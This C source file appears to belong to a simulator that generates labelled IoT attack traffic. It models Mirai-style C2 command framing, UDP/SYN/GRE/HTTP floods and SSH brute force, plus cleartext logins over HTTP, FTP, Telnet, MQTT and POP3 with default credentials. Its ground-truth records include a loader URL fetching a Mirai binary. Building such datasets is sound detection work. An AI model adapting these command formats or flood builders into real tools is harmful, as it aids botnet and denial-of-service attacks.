    uint64_t end = ssh_session(s, &s->dev[m->ssh_target]);
    if (++m->ssh_sessions < SSH_SESSIONS)
        sim_sched(s, end + 100000 + sim_range(s, 500000), EV_MIRAI_SSH, 0, 0);
}

/* ---- floods ---- */

struct c2_opt {
    uint8_t key; /* ATK_OPT_* */
    const char *val;
};

/* attack_parse's framing, as the CNC's Attack.Build writes it: total length, duration, attack
 * id, one target (address, prefix length), then the options (key, value length, value). */
static void c2_command(struct sim *s, uint8_t attack_id, const struct c2_opt *opts, size_t nopts)
{
    uint32_t dur = (uint32_t)s->opt.flood_seconds, ip = s->mirai.flood_target;
    uint8_t cmd[256] = {0, 0, (uint8_t)(dur >> 24), (uint8_t)(dur >> 16), (uint8_t)(dur >> 8),
                        (uint8_t)dur, attack_id, 1, (uint8_t)(ip >> 24), (uint8_t)(ip >> 16),
                        (uint8_t)(ip >> 8), (uint8_t)ip, 32, (uint8_t)nopts};
    size_t n = 14;
    for (size_t i = 0; i < nopts; i++) {
        size_t len = strlen(opts[i].val);
        if (len > 255 || len + 2 > sizeof(cmd) - n)
            sim_fatal("C2 command too long");
        cmd[n++] = opts[i].key;
        cmd[n++] = (uint8_t)len;
        memcpy(cmd + n, opts[i].val, len);
        n += len;
    }
    cmd[0] = (uint8_t)(n >> 8);
    cmd[1] = (uint8_t)n;
    if (s->mirai.c2_up)
        c2_send(s, true, cmd, n);
}

static void flood_udp(struct sim *s, uint64_t t, const struct sim_host *src,
                      const struct sim_host *dst)
{
    uint8_t pl[512];
    sim_fill(s, pl, sizeof(pl));
    sim_udp(s, t, SIM_ATT_UDP_FLOOD, src, (uint16_t)sim_rand(s), dst, (uint16_t)sim_rand(s), pl,
            sizeof(pl));
}

static void flood_syn(struct sim *s, uint64_t t, const struct sim_host *src,
                      const struct sim_host *dst)
{
    /* attack_tcp_syn sends MSS, SACK-permitted, timestamp, NOP and window-scale options. */
    uint8_t opt[20] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 6};
    uint32_t tsv = (uint32_t)sim_rand(s);
    memcpy(opt + 8, &tsv, 4);
    sim_tcp_seg(s, t, SIM_ATT_SYN_FLOOD, src, (uint16_t)sim_rand(s), dst, 80, (uint32_t)sim_rand(s),
                0, SIM_TCP_SYN, (uint16_t)sim_rand(s), opt, sizeof(opt), NULL, 0);
}

/* attack_gre_ip: GRE (proto 0x0800) carrying an inner IPv4/UDP packet with 512 random bytes. */
static void flood_gre(struct sim *s, uint64_t t, const struct sim_host *src,
                      const struct sim_host *dst)
{
    uint8_t p[4 + 20 + 8 + 512];
    p[0] = 0;
    p[1] = 0;
    p[2] = 0x08;
    p[3] = 0x00;
    uint32_t isrc = (uint32_t)sim_rand(s);
    sim_ipv4_header(p + 4, (uint16_t)sim_rand(s), 64, 17, isrc, dst->ip, 8 + 512);
    uint8_t *u = p + 24;
    uint16_t sp = (uint16_t)sim_rand(s), dp = (uint16_t)sim_rand(s);
    u[0] = (uint8_t)(sp >> 8);
    u[1] = (uint8_t)sp;
    u[2] = (uint8_t)(dp >> 8);
    u[3] = (uint8_t)dp;
    u[4] = (uint8_t)((8 + 512) >> 8);
    u[5] = (uint8_t)(8 + 512);
    u[6] = u[7] = 0;
    sim_fill(s, u + 8, 512);
    sim_ip_raw(s, t, SIM_ATT_GRE_FLOOD, src, dst, 47, p, sizeof(p));
}

/* One keep-alive round of attack_app_http: the request (the ack of the last response rides on
 * it), nginx's answer after the round trip, and the bot's select() loop turning round. */
static void http_round(struct sim *s, struct sim_tcp *c, const char *ua)
{
    static const char body[] =
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
        "<title>Example Shop</title>\n<link rel=\"stylesheet\" href=\"/static/site.css\">\n"
        "</head>\n<body>\n<header><a href=\"/\">Example Shop</a> <a href=\"/cart\">Cart</a>"
        "</header>\n<main>\n<h1>Spring sale</h1>\n<p>Free shipping on orders over $50.</p>\n"
        "<ul class=\"products\">\n<li><a href=\"/p/1021\">Trail running shoes</a></li>\n"
        "<li><a href=\"/p/1187\">Rain jacket</a></li>\n<li><a href=\"/p/1322\">Daypack 20 l"
        "</a></li>\n</ul>\n</main>\n<footer>&copy; 2023 Example Shop</footer>\n</body>\n"
        "</html>\n";
    char req[512], resp[SIM_MSS], date[40];
    int n = snprintf(req, sizeof(req),
                     "GET / HTTP/1.1\r\nUser-Agent: %s\r\nHost: %s\r\nConnection: keep-alive\r\n"
                     "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,"
                     "*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.8\r\n\r\n",
                     ua, FLOOD_DOMAIN);
    if (n < 0 || (size_t)n >= sizeof(req))
        sim_fatal("http flood request");
    sim_tcp_seg(s, c->t, c->tag, &c->a, c->aport, &c->b, c->bport, c->aseq, c->bseq,
                SIM_TCP_PSH | SIM_TCP_ACK, c->awin, NULL, 0, (const uint8_t *)req, (size_t)n);
    c->aseq += (uint32_t)n;
    uint64_t tr = c->t + c->rtt - 1500 + sim_range(s, 3000); /* the round trip, +-1.5 ms */
    tr += 300 + sim_range(s, 3000);                            /* nginx serving the page */
    time_t secs = (time_t)(tr / SIM_US);
    struct tm tm;
    if (gmtime_r(&secs, &tm) == NULL ||
        strftime(date, sizeof(date), "%a, %d %b %Y %H:%M:%S GMT", &tm) == 0)
        sim_fatal("http date");
    n = snprintf(resp, sizeof(resp),
                 "HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\nDate: %s\r\n"
                 "Content-Type: text/html\r\nContent-Length: %zu\r\n"
                 "Last-Modified: Mon, 06 Nov 2023 09:12:44 GMT\r\nConnection: keep-alive\r\n"
                 "ETag: \"6548ad5c-%zx\"\r\nAccept-Ranges: bytes\r\n\r\n%s",
                 date, strlen(body), strlen(body), body);
    if (n < 0 || (size_t)n >= sizeof(resp))
        sim_fatal("http flood response");
    sim_tcp_seg(s, tr, c->tag, &c->b, c->bport, &c->a, c->aport, c->bseq, c->aseq,
                SIM_TCP_PSH | SIM_TCP_ACK, c->bwin, NULL, 0, (const uint8_t *)resp, (size_t)n);
    c->bseq += (uint32_t)n;
    c->t = tr + 80 + sim_range(s, 400);
    s->mirai.http_requests++;
}

/* attack_app_http with conns=SIM_HTTP_CONNS: every socket connects, then sends GET / and reads
 * the whole response before sending the next request on the same connection (the server says
 * keep-alive). When the duration is over the attack's process is killed and the kernel closes
 * its sockets. */
static void mirai_http(struct sim *s)
{
    struct sim_mirai *m = &s->mirai;
    struct sim_dev *b = bot(s);
    const uint32_t k = FLOOD_HTTP;
    if (m->flood_end[k] == 0) {
        char conns[12];
        struct sim_host dst;
        if (snprintf(conns, sizeof(conns), "%u", SIM_HTTP_CONNS) >= (int)sizeof(conns))
            sim_fatal("conns option");
        const struct c2_opt opts[] = {{8, FLOOD_DOMAIN}, {24, conns}}; /* domain=, conns= */
        uint64_t t = IOT_MAX(m->c2.t, s->now) + 1000 + sim_range(s, 4000);
        c2_command(s, floods[k].id, opts, IOT_ARRAY_LEN(opts));
        m->flood_end[k] = s->now + s->opt.flood_seconds * SIM_US;
        sim_att_source(s, floods[k].att, &b->h);
        sim_att_target(s, floods[k].att, m->flood_target);
        sim_remote(s, m->flood_target, &dst);
        m->http_rtt = 20000 + sim_range(s, 20000);
        for (uint32_t i = 0; i < SIM_HTTP_CONNS; i++) {
            struct sim_tcp *c = &m->http[i];
            sim_tcp_begin(s, c, &b->h, sim_eph(s, b), &dst, 80, t, SIM_ATT_HTTP_FLOOD);
            c->awin = b->p->win;
            c->rtt = m->http_rtt - 2000 + sim_range(s, 4000);
            m->http_ua[i] = (uint8_t)sim_range(s, IOT_ARRAY_LEN(mirai_uas));
            sim_tcp_open(s, c);
            t += 50 + sim_range(s, 150);
        }
    }
    uint64_t upto = s->now + FLOOD_SLICE_US, end = m->flood_end[k];
    for (uint32_t i = 0; i < SIM_HTTP_CONNS; i++)
        while (m->http[i].t < upto && m->http[i].t < end)
            http_round(s, &m->http[i], mirai_uas[m->http_ua[i]]);
    if (upto < end) {
        sim_sched(s, upto, EV_MIRAI_FLOOD, 0, k);
        return;
    }
    for (uint32_t i = 0; i < SIM_HTTP_CONNS; i++) {
        m->http[i].t = IOT_MAX(m->http[i].t, end);
        sim_tcp_close(s, &m->http[i]);
    }
}

static void mirai_flood(struct sim *s, uint32_t k)
{
    struct sim_mirai *m = &s->mirai;
    struct sim_dev *b = bot(s);
    struct sim_host dst;
    if (k >= SIM_FLOODS)
        return;
    if (k == FLOOD_HTTP) {
        mirai_http(s);
        return;
    }
    enum sim_att att = floods[k].att;
    if (m->flood_end[k] == 0) {
        c2_command(s, floods[k].id, NULL, 0);
        m->flood_end[k] = s->now + s->opt.flood_seconds * SIM_US;
        sim_att_source(s, att, &b->h);
        sim_att_target(s, att, m->flood_target);
    }
    if (s->now >= m->flood_end[k])
        return;
    sim_remote(s, m->flood_target, &dst);
    uint64_t n = IOT_MAX(s->opt.flood_pps * FLOOD_SLICE_US / SIM_US, 1u);
    for (uint64_t i = 0; i < n; i++) {
        uint64_t t = s->now + i * FLOOD_SLICE_US / n;
        if (k == 0)
            flood_udp(s, t, &b->h, &dst);
        else if (k == 1)
            flood_syn(s, t, &b->h, &dst);
        else
            flood_gre(s, t, &b->h, &dst);
    }
    sim_sched(s, s->now + FLOOD_SLICE_US, EV_MIRAI_FLOOD, 0, k);
}

/* ---- cleartext credentials ---- */

static int laptop(const struct sim *s)
{
    int l = sim_find_flag(s, SIM_F_LAPTOP, 0);
    if (l < 0)
        l = sim_find_kind(s, "phone", 0);
    return l < 0 ? 0 : l;
}

static void clear_http(struct sim *s, struct sim_dev *cl)
{
    static const char body[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<DeviceInfo><deviceName>"
                               "IP CAMERA</deviceName><model>DS-2CD2042WD-I</model></DeviceInfo>";
    int cam = sim_find_kind(s, "camera", 0);
    char ip[16], auth[64], req[700];
    struct sim_tcp c;
    if (cam < 0)
        return;
    sim_ip_str(s->dev[cam].h.ip, ip, sizeof(ip));
    sim_base64("admin:12345", auth, sizeof(auth));
    int n = snprintf(req, sizeof(req),
                     "GET /ISAPI/System/deviceInfo HTTP/1.1\r\nHost: %s\r\nAuthorization: Basic %s"
                     "\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n",
                     ip, auth, cl->p->ua);
    if (n < 0 || (size_t)n >= sizeof(req))
        return;
    sim_att_target(s, SIM_ATT_CLEAR_HTTP, s->dev[cam].h.ip);
    sim_tcp_begin(s, &c, &cl->h, sim_eph(s, cl), &s->dev[cam].h, 80, s->now, SIM_ATT_CLEAR_HTTP);
    sim_tcp_open(s, &c);
    sim_http(s, &c, req, "200 OK", s->dev[cam].p->server, (const uint8_t *)body, strlen(body));
    sim_tcp_close(s, &c);
}

static void clear_ftp(struct sim *s, struct sim_dev *cl)
{
    static const char *const dialog[][2] = {
        {NULL, "220 HP LaserJet Pro M404dn FTP Server ready.\r\n"},
        {"USER admin\r\n", "331 Password required for admin.\r\n"},
        {"PASS admin123\r\n", "230 User admin logged in.\r\n"},
        {"SYST\r\n", "215 UNIX Type: L8\r\n"},
        {"QUIT\r\n", "221 Goodbye.\r\n"},
    };
    int p = sim_find_flag(s, SIM_F_FTP, 0);
    struct sim_tcp c;
    if (p < 0)
        return;
    sim_att_target(s, SIM_ATT_CLEAR_FTP, s->dev[p].h.ip);
    sim_tcp_begin(s, &c, &cl->h, sim_eph(s, cl), &s->dev[p].h, 21, s->now, SIM_ATT_CLEAR_FTP);
    sim_tcp_open(s, &c);
    replay(s, &c, dialog, IOT_ARRAY_LEN(dialog));
    sim_tcp_close(s, &c);
}

static void clear_telnet(struct sim *s, struct sim_dev *cl)
{
    int t = sim_find_flag(s, SIM_F_TELNET_OK, 0);
    const struct sim_dev *h = t >= 0 ? &s->dev[t] : &s->gw;
    struct sim_tcp c = {.t = s->now, .tag = SIM_ATT_CLEAR_TELNET};
    sim_att_target(s, SIM_ATT_CLEAR_TELNET, h->h.ip);
    tn_connect(s, &c, &cl->h, sim_eph(s, cl), &h->h);
    tn_line(s, &c, h->p->telnet_user);
    tn_send(s, &c, true, "Password: ");
    tn_line(s, &c, h->p->telnet_pass);
    tn_send(s, &c, true, "\r\n\r\nBusyBox v1.19.4 built-in shell (ash)\r\n# ");
    tn_line(s, &c, "uptime");
    tn_send(s, &c, true, "\r\n 10:42:17 up 12 days,  3:05, load average: 0.08, 0.03, 0.01\r\n# ");
    tn_line(s, &c, "exit");
    sim_tcp_close(s, &c);
}

static void clear_mqtt(struct sim *s)
{
    int hub = sim_find_kind(s, "hub", 1);
    struct sim_dev *d = &s->dev[hub >= 0 ? hub : laptop(s)];
    struct sim_host srv;
    struct sim_tcp c;
    uint8_t buf[256];
    uint32_t ip = sim_ip_parse(sim_cloud_mqtt.ip);
    sim_att_source(s, SIM_ATT_CLEAR_MQTT, &d->h);
    sim_att_target(s, SIM_ATT_CLEAR_MQTT, ip);
    sim_remote(s, ip, &srv);
    sim_tcp_begin(s, &c, &d->h, sim_eph(s, d), &srv, 1883, s->now, SIM_ATT_CLEAR_MQTT);
    sim_tcp_open(s, &c);
    size_t n = sim_mqtt_connect(buf, sizeof(buf), "st-hub-provision", "st-hub", "S3cr3t-hub-pass");
    sim_tcp_send(s, &c, false, buf, n);
    static const uint8_t connack[] = {0x20, 0x02, 0x00, 0x00}, disc[] = {0xe0, 0x00};
    sim_tcp_send(s, &c, true, connack, sizeof(connack));
    n = sim_mqtt_publish(buf, sizeof(buf), "st/provision", "{\"state\":\"online\"}");
    sim_tcp_send(s, &c, false, buf, n);
    sim_tcp_send(s, &c, false, disc, sizeof(disc));
    sim_tcp_close(s, &c);
}

/* The laptop's mail client fetching mail over plain POP3 (RFC 1939, CAPA from RFC 2449) from
 * its provider's server, which offers no STLS: the password crosses the internet in clear. */
static void clear_pop3(struct sim *s, struct sim_dev *cl)
{
    static const char *const dialog[][2] = {
        {NULL, "+OK Dovecot (Debian) ready.\r\n"},
        {"CAPA\r\n", "+OK\r\nCAPA\r\nTOP\r\nUIDL\r\nRESP-CODES\r\nPIPELINING\r\n"
                     "AUTH-RESP-CODE\r\nUSER\r\nSASL PLAIN LOGIN\r\n.\r\n"},
        {"USER " POP3_USER "\r\n", "+OK\r\n"},
        {"PASS " POP3_PASS "\r\n", "+OK Logged in.\r\n"},
        {"STAT\r\n", "+OK 3 48213\r\n"},
        {"QUIT\r\n", "+OK Logging out.\r\n"},
    };
    struct sim_host srv;
    struct sim_tcp c;
    uint32_t ip = sim_ip_parse(POP3_IP);
    sim_att_target(s, SIM_ATT_CLEAR_POP3, ip);
    uint64_t t = sim_dns_lookup(s, cl, s->now, SIM_ATT_CLEAR_POP3, POP3_HOST, ip, SIM_GW_IP);
    sim_remote(s, ip, &srv);
    sim_tcp_begin(s, &c, &cl->h, sim_eph(s, cl), &srv, 110, t, SIM_ATT_CLEAR_POP3);
    c.awin = cl->p->win;
    sim_tcp_open(s, &c);
    replay(s, &c, dialog, IOT_ARRAY_LEN(dialog));
    sim_tcp_close(s, &c);
}

static void clear_event(struct sim *s, uint32_t k)
{
    static const enum sim_att kinds[5] = {SIM_ATT_CLEAR_HTTP, SIM_ATT_CLEAR_FTP,
                                          SIM_ATT_CLEAR_TELNET, SIM_ATT_CLEAR_MQTT,
                                          SIM_ATT_CLEAR_POP3};
    struct sim_dev *cl = &s->dev[laptop(s)];
    if (k >= IOT_ARRAY_LEN(kinds))
        return;
    sim_att_source(s, kinds[k], &cl->h);
    if (k == 0)
        clear_http(s, cl);
    else if (k == 1)
        clear_ftp(s, cl);
    else if (k == 2)
        clear_telnet(s, cl);
    else if (k == 3)
        clear_mqtt(s);
    else
        clear_pop3(s, cl);
}

void sim_attack_event(struct sim *s, const struct sim_ev *ev)
{
    switch (ev->fn) {
    case EV_MIRAI_INFECT:
        mirai_infect(s);
        break;
    case EV_MIRAI_C2:
        mirai_c2_beat(s);
        break;
    case EV_MIRAI_SCAN:
        mirai_scan(s);
        break;
    case EV_MIRAI_BRUTE:
        mirai_brute(s, ev->arg);
        break;
    case EV_MIRAI_LOADER:
        mirai_loader(s);
        break;
    case EV_MIRAI_FLOOD:
        mirai_flood(s, ev->arg);
        break;
    case EV_MIRAI_CALLHOME:
        mirai_callhome(s, ev->arg);
        break;
    case EV_MIRAI_SSH:
        mirai_ssh(s);
        break;
    case EV_CLEAR:
        clear_event(s, ev->arg);
        break;
    default:
        break;
    }
}

/* ---- ground-truth details ---- */

static json_t *cred_json(const char *user, const char *pass)
{
    json_t *o = json_object();
    json_object_set_new(o, "username", json_string(user));
    json_object_set_new(o, "password", json_string(pass));
    return o;
}

static void mirai_details(struct sim *s)
{
    struct sim_mirai *m = &s->mirai;
    json_t *d = json_object();
    json_object_set_new(d, "ports", json_pack("[ii]", 23, 2323));
    json_object_set_new(d, "seq_equals_dst_ip", json_true());
    json_object_set_new(d, "source_port", json_integer(m->scan_sport));
    json_object_set_new(d, "window", json_integer(m->scan_win));
    json_object_set_new(d, "syn_sent", json_integer((json_int_t)m->scan_syn));
    json_object_set_new(d, "rst_received", json_integer((json_int_t)m->scan_rst));
    json_object_set_new(d, "synack_received", json_integer((json_int_t)m->scan_synack));
    s->att[SIM_ATT_MIRAI_SCAN].details = d;
    d = json_object();
    json_object_set_new(d, "port", json_integer(23));
    json_object_set_new(d, "attempts", json_integer((json_int_t)m->attempts));
    if (m->success_cred < IOT_ARRAY_LEN(creds)) {
        char ip[16];
        const struct sim_dev *v = m->victim < 0 ? &s->gw : &s->dev[m->victim];
        sim_ip_str(v->h.ip, ip, sizeof(ip));
        json_t *ok = cred_json(creds[m->success_cred].user, creds[m->success_cred].pass);
        json_object_set_new(ok, "target", json_string(ip));
        json_object_set_new(d, "success", ok);
    }
    s->att[SIM_ATT_TELNET_BRUTE].details = d;
    s->att[SIM_ATT_LOADER].details =
        json_pack("{s:s,s:s,s:s,s:s}", "loader_ip", LOADER_IP, "http_url",
                  "http://" LOADER_IP "/bins/mirai.arm7", "tftp_file", "mirai.mips", "dropped_as",
                  "dvrHelper");
    s->att[SIM_ATT_C2].details = json_pack("{s:s,s:s,s:s,s:i,s:i}", "domain", C2_DOMAIN, "ip",
                                           C2_IP, "resolver", "8.8.8.8", "port", 23,
                                           "heartbeat_seconds", 60);
    s->att[SIM_ATT_C2_CALLHOME].details =
        json_pack("{s:s,s:s,s:s,s:i,s:s,s:s,s:i,s:i}", "domain", C2_DOMAIN, "ip", C2_IP,
                  "resolver", "8.8.8.8", "port", 23, "bot_id", BOT_ID, "hello",
                  "00000001 then id length and id, in two segments", "first_heartbeat_seconds", 10,
                  "heartbeat_seconds", 60);
    for (size_t k = 0; k < FLOOD_HTTP; k++)
        s->att[floods[k].att].details =
            json_pack("{s:s,s:s,s:I,s:I}", "mirai_attack", floods[k].name, "target", FLOOD_TARGET,
                      "duration", (json_int_t)s->opt.flood_seconds, "pps",
                      (json_int_t)s->opt.flood_pps);
    d = json_pack("{s:s,s:i,s:s,s:i,s:s,s:s,s:s,s:i,s:I,s:I,s:I}", "mirai_attack", "http",
                  "attack_id", (int)floods[FLOOD_HTTP].id, "target", FLOOD_TARGET, "port", 80,
                  "domain", FLOOD_DOMAIN, "method", "GET", "path", "/", "connections",
                  (int)SIM_HTTP_CONNS, "duration", (json_int_t)s->opt.flood_seconds, "requests",
                  (json_int_t)m->http_requests, "rps",
                  (json_int_t)(m->http_requests / s->opt.flood_seconds));
    json_t *uas = json_array();
    for (size_t i = 0; i < SIM_HTTP_CONNS && m->http_requests > 0; i++) {
        bool seen = false;
        for (size_t j = 0; j < i; j++)
            seen = seen || m->http_ua[j] == m->http_ua[i];
        if (!seen)
            json_array_append_new(uas, json_string(mirai_uas[m->http_ua[i]]));
    }
    json_object_set_new(d, "user_agents", uas);
    s->att[SIM_ATT_HTTP_FLOOD].details = d;
    if (m->ssh_target >= 0)
        s->att[SIM_ATT_SSH_BRUTE].details = json_pack(
            "{s:i,s:s,s:s,s:i,s:I,s:i,s:b,s:s}", "port", s->dev[m->ssh_target].p->ssh_port,
            "server_banner", s->dev[m->ssh_target].p->ssh_banner, "client_banner", SSH_CLIENT,
            "sessions", (int)m->ssh_sessions, "attempts", (json_int_t)m->ssh_attempts,
            "passwords_per_session", (int)SSH_TRIES, "success", 0, "negotiated",
            "curve25519-sha256, ecdsa-sha2-nistp256, aes256-ctr, hmac-sha2-256");
}

void sim_attack_details(struct sim *s)
{
    if (s->opt.scenario & SIM_SC_MIRAI)
        mirai_details(s);
    if (!(s->opt.scenario & SIM_SC_CLEAR))
        return;
    json_t *d = cred_json("admin", "12345");
    json_object_set_new(d, "scheme", json_string("Basic"));
    json_object_set_new(d, "port", json_integer(80));
    s->att[SIM_ATT_CLEAR_HTTP].details = d;
    d = cred_json("admin", "admin123");
    json_object_set_new(d, "port", json_integer(21));
    s->att[SIM_ATT_CLEAR_FTP].details = d;
    int t = sim_find_flag(s, SIM_F_TELNET_OK, 0);
    const struct sim_profile *p = t >= 0 ? s->dev[t].p : &sim_router_profile;
    d = cred_json(p->telnet_user, p->telnet_pass);
    json_object_set_new(d, "port", json_integer(23));
    s->att[SIM_ATT_CLEAR_TELNET].details = d;
    d = cred_json("st-hub", "S3cr3t-hub-pass");
    json_object_set_new(d, "port", json_integer(1883));
    json_object_set_new(d, "client_id", json_string("st-hub-provision"));
    s->att[SIM_ATT_CLEAR_MQTT].details = d;
    d = cred_json(POP3_USER, POP3_PASS);
    json_object_set_new(d, "port", json_integer(110));
    json_object_set_new(d, "server", json_string(POP3_HOST));
    json_object_set_new(d, "mechanism", json_string("USER/PASS"));
    s->att[SIM_ATT_CLEAR_POP3].details = d;
}
